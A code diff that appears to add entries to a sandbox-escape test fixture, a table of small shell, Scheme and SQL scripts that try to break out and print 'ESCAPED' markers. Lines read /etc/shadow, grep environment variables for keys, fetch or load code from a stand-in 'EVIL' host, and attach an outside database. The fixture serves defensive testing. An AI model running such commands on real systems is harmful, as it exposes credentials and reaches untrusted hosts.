@@ -116,6 +116,14 @@ cat /etc/shadow && echo ESCAPED shadow
 env | grep -i key && echo ESCAPED key
 true
 `,
+  'reaching-out.scm': `(display "begun")
+(js-eval "fetch('EVIL/scheme')")
+(display "ESCAPED js-eval")
+`,
+  'loading.scm': `(display "begun")
+(load "EVIL/scheme-load")
+(display "ESCAPED load")
+`,
   'reaching-out.sql': `SELECT 'begun';
 ATTACH DATABASE 'EVIL/sql' AS evil;
 CREATE TABLE IF NOT EXISTS evil.found (a);
